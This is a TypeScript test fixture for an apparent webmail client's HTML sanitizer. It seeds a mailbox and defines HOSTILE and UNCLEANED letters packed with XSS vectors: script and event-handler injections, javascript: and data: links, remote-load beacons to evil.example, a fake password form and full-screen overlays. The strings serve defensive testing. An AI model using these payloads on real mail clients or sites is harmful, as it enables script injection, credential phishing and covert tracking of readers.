import { ANNA } from './anna.ts';
import { seedFromObject } from './portal/seed/json.ts';
import type { Seed } from './portal/state.ts';

/** A mailbox of messages that came as markup, one per subject, all from `sender`. */
export function markupSeed(letters: Record<string, string>, sender = 'Shop <news@shop.example>'): Seed {
  return seedFromObject({
    ...ANNA,
    mailboxes: [
      { id: 1, name: 'Anna Weber', email: 'anna@northwind.example', senderName: 'Anna Weber', shared: false },
    ],
    messages: Object.entries(letters).map(([subject, html], index) => ({
      mailboxId: 1,
      folder: 'INBOX',
      to: 'Anna Weber <anna@northwind.example>',
      cc: '',
      id: 501 + index,
      from: sender,
      subject,
      html,
      date: new Date(Date.now() - (index + 1) * 3_600_000).toISOString(),
      isSeen: true,
      hasAttachments: false,
    })),
  });
}

/** Everything a hostile letter tries, in one; every attempt that worked would show as a request, a dialog or a flag. */
export const HOSTILE = `
<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><base href="https://evil.example/" target="_top">
<link rel="stylesheet" href="https://evil.example/x.css"><link rel="dns-prefetch preconnect prefetch" href="https://evil.example">
<style>@import "https://evil.example/import.css"; @font-face{font-family:e;src:url(https://evil.example/f.woff2)}
body{background:url(https://evil.example/body.png);font-family:e} p{background:\\75 rl(https://evil.example/escaped.png)}
.over{position:fixed;inset:-500px;z-index:2147483647;background:#c00}</style></head>
<body onload="top.hacked=1" background="https://evil.example/background.png">
<p>The words of the letter.</p>
<script>window.hacked=1;top.hacked=1;parent.postMessage('hacked','*');alert('script');fetch('https://evil.example/fetch')</script>
<img src=x onerror="top.hacked=1;alert('onerror')"><svg onload="alert('svg')"><image href="https://evil.example/svg.png"/></svg>
<img src="https://evil.example/pixel.gif" srcset="https://evil.example/set.gif 2x"><picture><source srcset="https://evil.example/source.gif"></picture>
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>alert('srcdoc')</script>"></iframe><portal src="https://evil.example/portal"></portal>
<form action="https://evil.example/form" id="f"><input name="password" type="password" autofocus onfocus="alert('focus')"><button formtarget="_top">Sign in</button></form>
<input type="image" src="https://evil.example/input.png"><dialog open class="over">Sign in again</dialog>
<div popover="manual" class="over">over</div><div class="over">FIXED</div><div style="margin:-5000px;width:99999px;height:99999px">huge</div>
<details open ontoggle="alert('toggle')"><summary>More</summary>x</details><marquee onstart="alert('marquee')">m</marquee>
<a href="javascript:alert('href')" id="documentElement" name="body">script link</a>
<a href="https://top.example/" target="_top">top link</a> <a href="data:text/html,<script>alert(1)</script>">data link</a>
<template shadowrootmode="open"><img src=x onerror="alert('shadow')"></template>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
</body></html>`;

/**
 * What a cleaner that failed would let through; put into the frame behind its back. Not among it: a nested frame with
 * an address. Chromium connects to its host before the policy forbids the load, so there only the cleaner helps.
 */
export const UNCLEANED = `
<script>parent.hacked=1;parent.document.title='hacked';parent.localStorage.setItem('hacked','1')</script><img src=x onerror="parent.hacked=1">
<a href="javascript:void(parent.hacked=1)">run it</a><a href="javascript:void(parent.hacked=1)" target="_parent">run it outside</a>
<script>alert('uncleaned')</script><img src="https://evil.example/uncleaned.png"><img src=x onerror="alert('uncleaned')">
<style>@import "https://evil.example/uncleaned.css";p{background:url(https://evil.example/uncleaned-css.png)}</style>
<iframe srcdoc="<script>alert('uncleaned')</script><img src='https://evil.example/nested.png'>"></iframe><video src="https://evil.example/uncleaned.mp4" autoplay></video>
<object data="https://evil.example/uncleaned-object"></object><link rel="stylesheet" href="https://evil.example/uncleaned-link.css">
<form action="https://evil.example/uncleaned-form"><button>Send it</button></form><a href="https://evil.example/top" target="_top">to the top</a><p>End of it.</p>`;
